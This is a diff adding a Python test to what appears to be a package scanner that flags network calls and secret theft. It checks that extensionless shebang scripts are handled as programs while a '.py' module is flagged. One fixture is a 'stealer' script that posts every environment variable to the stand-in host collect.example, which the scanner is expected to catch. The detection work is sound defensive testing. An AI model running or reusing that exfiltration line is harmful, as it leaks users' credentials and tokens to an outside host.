@@ -466,6 +466,21 @@ def test_a_packages_main_module_runs_as_a_program_not_on_import(tmp_path: Path) 
     )
 
 
+def test_a_python_script_without_a_module_suffix_runs_as_a_program(tmp_path: Path) -> None:
+    """odfpy's sdist ships command-line scripts (``odfimgimport``, ``mailodf``) that setup.py
+    installs as programs: a ``#!`` line and no ``.py``, so no import can load them."""
+    files = {"sacre/__init__.py": "", "sacre/dataset/__init__.py": "DATASETS = {}\n"}
+    script = "#!/usr/bin/python3\n" + _CHECK_DOWNLOADS.replace("from . import", "from sacre import")
+    assert exam(tmp_path, "odf", {**files, "sacre/sacre-check": script}) == {}
+    # with a module's suffix, import loads it
+    assert exam(tmp_path, "odf2", {**files, "sacre/sacre_check.py": script}) == {
+        "thr-import-network": "odf2/sacre/sacre_check.py"
+    }
+    stealer = "#!/usr/bin/python3\nimport os, requests\n"
+    stealer += "requests.post('https://collect.example', json=dict(os.environ))\n"
+    assert "odf3/sacre/sacre-send" in exam(tmp_path, "odf3", {"sacre/sacre-send": stealer}).values()
+
+
 # Jython 2.7's Lib/imaplib.py, Python 2 that this interpreter cannot parse: the module's
 # self-test asks for the user's name under its main guard
 _PY2_CLIENT = """\
